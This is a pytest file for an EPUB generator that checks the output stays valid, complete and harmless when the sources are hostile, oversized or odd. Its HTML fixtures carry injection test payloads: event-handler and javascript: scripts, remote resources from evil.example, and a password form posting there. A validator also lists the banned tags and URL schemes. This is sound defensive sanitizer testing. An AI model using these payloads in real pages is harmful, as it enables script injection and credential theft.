"""Sources that are huge, hostile or empty: the book is valid, runs nothing, fetches nothing and loses nothing."""

from __future__ import annotations

import re
import time
import zipfile
from typing import TYPE_CHECKING

import pytest
from lxml import etree

from audicle import check_book
from audicle.model import Article, Cell, Figure, Image, Metadata, Section, Table
from audicle.model import Heading as Head
from audicle.model.ids import identify
from audicle.progress import SilentProgress
from audicle.publish.epub import write_epub
from audicle.read import read
from audicle.read.source import Source
from audicle.settings import Settings
from book_samples import paragraph, run
from narrated import narrate
from strategies import PNG

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from epub_checker import EpubChecker

TEXT = "The lamp was lit at dusk, and nobody in the town ever asked the keeper why he did it. " * 4
# what is between the two paragraphs is what pages do to readers
HOSTILE = f"""<!DOCTYPE html><html lang="en"><head><title>The lamp &lt;b&gt;&#x1F4A1;</title>
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";
@font-face {{ font-family: x; src: url(https://evil.example/f.woff); }}
body {{ background: url(https://evil.example/t.png) }}</style>
<script src="https://evil.example/a.js"></script><base href="javascript:alert(1)//"></head>
<body onload="alert(1)"><article><h1 id="x" onclick="alert(2)">The lamp</h1>
<p id="x" style="background:url(//evil.example)">{TEXT}</p>
<p id="x"><a href="javascript:alert(3)" onmouseover="alert(4)">a bad link</a> and <a href="data:text/html,x">another</a>
and <a href="vbscript:x">a third</a>.</p>
<form action="https://evil.example/"><input name="password"><button>Send it</button></form>
<figure><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" viewBox="0 0 40 40" onload="alert(5)">
<title>A drawn lamp</title><script>alert(6)</script><rect width="40" height="40" onclick="alert(7)"/>
<foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>
<figcaption id="x">The lamp, drawn.</figcaption></figure>
<iframe src="https://evil.example/frame" srcdoc="&lt;script&gt;alert(8)&lt;/script&gt;"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<p>{TEXT}</p><p>So <math><mi onclick="alert(9)">x</mi></math> is it.</p></article></body></html>"""


def files(path: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as book:
        yield from ((name, book.read(name)) for name in book.namelist())


def assert_harmless(path: Path) -> None:
    """Assert that nothing in a book runs, and nothing but links to follow leads out of it."""
    for name, data in files(path):
        if name.endswith((".xhtml", ".svg", ".opf", ".smil", ".ncx")):
            for element in etree.fromstring(data).iter("*"):
                tag = etree.QName(element).localname
                assert tag not in {"script", "form", "input", "iframe", "object", "embed", "foreignObject"}, name
                for attribute, value in element.attrib.items():
                    local = etree.QName(attribute).localname
                    assert not local.startswith("on"), f"{name}: {attribute}"
                    assert not re.match(r"\s*(?:javascript|vbscript|data:text)", value, re.IGNORECASE), (
                        f"{name}: {value}"
                    )
                    remote = local in ("src", "href", "data", "poster", "style") and "//" in value
                    assert not remote or tag in ("a", "link") or local == "id", f"{name}: {value}"
        elif name.endswith(".css"):
            assert not re.search(rb"@import[^;]*//|url\([^)]*//|expression", data), name
        assert not name.endswith((".js", ".ttf", ".otf"))


def words(path: Path) -> str:
    pages = (etree.fromstring(data) for name, data in files(path) if re.fullmatch(r"EPUB/text/\d+\.xhtml", name))
    return " ".join(" ".join(" ".join(page[-1].itertext()).split()) for page in pages)


@pytest.mark.parametrize("kind", ["html", "md"])
def test_a_hostile_page_makes_a_harmless_and_whole_book(kind: str, tmp_path: Path, epubcheck: EpubChecker) -> None:
    text = HOSTILE if kind == "html" else "# The lamp\n\n" + HOSTILE[HOSTILE.index("<article>") + 9 : -21]
    article, settings = read(Source(f"a.{kind}", text.encode()), Settings(), SilentProgress())
    write_epub(article, None, tmp_path / "a.epub", SilentProgress(), settings)
    epubcheck(tmp_path / "a.epub")
    assert_harmless(tmp_path / "a.epub")
    said = words(tmp_path / "a.epub")
    assert said.count("The lamp was lit at dusk") == 8
    for part in ("a bad link", "another", "a third", "The lamp, drawn."):
        assert part in said, part


# names that a book's own parts bear, names given twice, and names that are no names
IDS = f"""<html lang="en"><body><article><h1 id="s1">The lamp</h1><p id="s1">{TEXT}</p>
<h2 id="title">A part</h2><p id="nav">{TEXT}<a href="#nav">a way back</a> <sup><a id="r1" href="#n1">1</a></sup></p>
<h2 id="1">A part</h2><p id="é &amp; b">{TEXT}<a href="#é &amp; b">a way here</a> <a href="#no">a way off</a></p>
<h2 id="s1">A part</h2><p id="fn1">{TEXT}<a href="#fn1">a way on</a></p>
<p id="n1">1. What the lamp burnt. <a href="#r1">back</a></p></article></body></html>"""
CONTROL = f"""<html lang="en"><head><title>The &#7;lamp&#0;&#x1f; of &#xFFFF;old</title></head><body><article>
<h1>The &#7;lamp&#0;&#x1f; of &#xFFFF;old</h1><p>{TEXT}&#27;[31m A last&#1; word.</p></article></body></html>"""
MARKUP = f"""<html lang="en"><head><title>The &lt;i&gt;lamp&lt;/i&gt; &amp;amp; ]]&gt;</title></head><body><article>
<h1>The &lt;i&gt;lamp&lt;/i&gt; &amp;amp; ]]&gt; <b>old</b> <img src="x" onerror="alert(1)"></h1>
<p>{TEXT}</p></article>"""


@pytest.mark.parametrize(
    ("name", "text", "kept"),
    [
        ("ids.html", IDS, ("a way back", "a way here", "a way off", "a way on", "What the lamp burnt.")),
        ("control.html", CONTROL, ("lamp", "old", "A last word.")),
        ("markup.html", MARKUP, ("<i>lamp</i> &amp; ]]>", "old")),
        ("emoji.md", f"# 💡\n\n{TEXT}\n\n## 👩‍🚀\n\nEnd.", ("💡", "👩‍🚀", "End.")),
        ("headings.md", "# The lamp\n\n## A part\n\n### A part\n", ("The lamp", "A part")),
        ("picture.md", "![A brass lamp](lamp.png)\n", ("A brass lamp",)),
        ("code.md", "```\na < b && c\n```\n", ("a < b && c",)),
    ],
)
def test_a_strange_source_makes_a_whole_book_that_its_own_referee_passes(
    name: str, text: str, kept: tuple[str, ...], tmp_path: Path, epubcheck: EpubChecker
) -> None:
    article, settings = read(Source(name, text.encode()), Settings(), SilentProgress())
    write_epub(article, narrate(article, tmp_path), tmp_path / "a.epub", SilentProgress(), settings)
    epubcheck(tmp_path / "a.epub")
    assert_harmless(tmp_path / "a.epub")
    said = words(tmp_path / "a.epub")
    for part in kept:
        assert part in said, part
    report = check_book(tmp_path / "a.epub", checkers=["audicle"])
    assert not report.findings, [finding.message for finding in report.findings]


def of(*sections: Section, images: tuple[Image, ...] = ()) -> Article:
    return identify(Article(Metadata("Many"), sections, images=images))


def test_one_word_is_a_book(tmp_path: Path, epubcheck: EpubChecker) -> None:
    article, settings = read(Source("a.txt", b"Light"), Settings(), SilentProgress())
    write_epub(article, None, tmp_path / "a.epub", SilentProgress(), settings)
    epubcheck(tmp_path / "a.epub")
    assert "Light" in words(tmp_path / "a.epub")


def test_a_title_of_2000_characters_is_kept(tmp_path: Path, epubcheck: EpubChecker) -> None:
    title = ("light 💡 \x07<b>&amp;\u202e " * 200)[:2000]
    article = identify(Article(Metadata(title), (Section("", 1, Head("", 1, run(title)), (paragraph(title),)),)))
    write_epub(article, None, tmp_path / "a.epub", SilentProgress())
    epubcheck(tmp_path / "a.epub")
    assert words(tmp_path / "a.epub").count("light") == 3 * title.count("light")


def test_5000_sections_each_have_their_document(tmp_path: Path) -> None:
    sections = (Section("", 2, Head("", 2, run(f"Part {n}")), (paragraph(f"Text {n}."),)) for n in range(5000))
    begun = time.process_time()
    write_epub(of(*sections), None, tmp_path / "a.epub", SilentProgress())
    assert time.process_time() - begun < 60  # it grows with the article, not with its square
    documents = [data for name, data in files(tmp_path / "a.epub") if re.fullmatch(r"EPUB/text/\d+\.xhtml", name)]
    assert len(documents) == 5000
    assert b"Text 4999." in documents[-1]
    nav = next(data for name, data in files(tmp_path / "a.epub") if name.endswith("nav.xhtml"))
    assert nav.count(b">Part ") == 5000


def test_500_pictures_and_a_table_of_300_rows_are_all_there(tmp_path: Path, epubcheck: EpubChecker) -> None:
    images = tuple(Image(f"{n}.png", "image/png", 8, 8, PNG + bytes([n % 256, n // 256])) for n in range(500))
    figures = tuple(Figure("", image.src, f"Lamp number {n}") for n, image in enumerate(images))
    rows = tuple(tuple(Cell(run(f"{row}.{column}")) for column in range(8)) for row in range(300))
    article = of(Section("", 1, None, (*figures, Table("", rows, 1, 1, run("Lamps")))), images=images)
    write_epub(article, None, tmp_path / "a.epub", SilentProgress())
    epubcheck(tmp_path / "a.epub")
    assert sum(name.startswith("EPUB/images/") for name, _ in files(tmp_path / "a.epub")) == 501  # and the cover
    said = words(tmp_path / "a.epub")
    assert all(f"{row}.7" in said for row in range(300))
    nav = next(data for name, data in files(tmp_path / "a.epub") if name.endswith("nav.xhtml"))
    assert nav.count(b">Lamp number") == 500
